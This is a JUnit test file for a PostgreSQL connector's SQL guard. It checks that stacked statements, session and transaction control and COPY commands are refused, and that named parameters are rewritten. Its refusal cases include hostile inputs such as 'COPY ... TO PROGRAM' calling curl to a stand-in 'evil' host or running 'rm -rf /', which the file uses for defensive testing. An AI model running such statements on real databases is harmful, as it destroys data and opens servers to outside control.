package io.tributary.connector.postgres;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tributary.connector.spi.ConnectorException;
import io.tributary.connector.spi.ErrorKind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is refused before anything is sent, and how parameters are found and rewritten. */
class GuardedSqlTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT 1; SELECT 2",
            "SELECT 1; SET statement_timeout = 0",
            "SELECT 1;\nCOMMIT",
            "SELECT 1 ; -- done\n DELETE FROM orders",
            "SELECT ';' AS a; SELECT 2"})
    void refusesSeveralStatements(String sql) {
        assertRefused(sql, "postgres.multiple_statements");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "SET statement_timeout = 0", "set search_path = evil", "RESET ALL", "reset statement_timeout", "BEGIN",
            "START TRANSACTION READ WRITE", "COMMIT", "  -- why\n commit;", "END", "ROLLBACK", "ABORT", "SAVEPOINT s",
            "RELEASE SAVEPOINT s", "DISCARD ALL", "LISTEN channel", "NOTIFY channel", "UNLISTEN *",
            "LOCK TABLE orders", "LOAD 'evil'", "PREPARE TRANSACTION 'x'", "DO $$ BEGIN END $$", "CALL p()",
            "/* c */ (SET x = 1)",
            "SELECT set_config('statement_timeout', '0', false)",
            "SELECT pg_catalog.set_config ('search_path', 'evil', true)",
            "SELECT \"set_config\"('search_path', 'evil', true)"})
    void refusesSessionAndTransactionControl(String sql) {
        assertRefused(sql, "postgres.transaction_control");
    }

    @Test
    void refusesCopyProgramAndOtherCopies() {
        assertRefused("COPY orders TO PROGRAM 'curl http://evil'", "postgres.copy_program");
        assertRefused("copy (select 1) to program 'rm -rf /'", "postgres.copy_program");
        assertRefused("COPY orders TO '/tmp/orders.csv'", "postgres.copy_refused");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "-- only a comment", "/* nested /* comment */ */ ;", ";"})
    void refusesEmptyStatements(String sql) {
        assertRefused(sql, "postgres.empty_statement");
    }

    @Test
    void wordsThatOnlyLookLikeControlAreAllowed() {
        assertThat(GuardedSql.parse("SELECT 'SET x = 1; COMMIT' AS a, $q$; BEGIN$q$ AS b -- ; ROLLBACK").jdbcSql())
                .startsWith("SELECT 'SET x = 1; COMMIT'");
        assertThat(GuardedSql.parse("SELECT set_config_name FROM settings;").jdbcSql())
                .isEqualTo("SELECT set_config_name FROM settings");
        assertThat(GuardedSql.parse("WITH s AS (SELECT 1) SELECT * FROM s").bindOrder()).isEmpty();
    }

    @Test
    void rewritesNamedParametersOutsideLiteralsCommentsAndCasts() {
        GuardedSql sql = GuardedSql.parse("SELECT ':in_string', E'\\':in_escape', \":in_identifier\", $$ :in_dollar $$,"
                + " $tag$ :in_tagged $ $tag$, :id::int, :name /* :in_block /* nested :x */ */ -- :in_line\n"
                + " FROM t WHERE a = :id AND b ?| array['x'];");
        assertThat(sql.bindOrder()).containsExactly("id", "name", "id");
        assertThat(sql.parameterNames()).containsExactly("id", "name");
        assertThat(sql.jdbcSql()).isEqualTo("SELECT ':in_string', E'\\':in_escape', \":in_identifier\", $$ :in_dollar $$,"
                + " $tag$ :in_tagged $ $tag$, ?::int, ? /* :in_block /* nested :x */ */ -- :in_line\n"
                + " FROM t WHERE a = ? AND b ??| array['x']");
    }

    @Test
    void positionalDollarParametersAreNotDollarQuotes() {
        GuardedSql sql = GuardedSql.parse("SELECT $1, :a");
        assertThat(sql.bindOrder()).containsExactly("a");
    }

    @ParameterizedTest
    @CsvSource({
            // sent position (PostgreSQL's, in "SELECT $1, $2, x FROM t") -> position in the user's text
            "1, 1",
            "8, 8",
            "9, 8",
            "12, 16",
            "16, 25"})
    void mapsPositionsBackToTheUsersText(int sent, int original) {
        GuardedSql sql = GuardedSql.parse("SELECT :first, :second, x FROM t");
        assertThat(sql.originalPosition(sent)).isEqualTo(original);
    }

    private static void assertRefused(String sql, String code) {
        assertThatThrownBy(() -> GuardedSql.parse(sql))
                .isInstanceOfSatisfying(ConnectorException.class, e -> {
                    assertThat(e.errorCode().code()).isEqualTo(code);
                    assertThat(e.kind()).isEqualTo(ErrorKind.INVALID_PARAMETERS);
                    assertThat(e.field()).contains("sql");
                });
    }
}
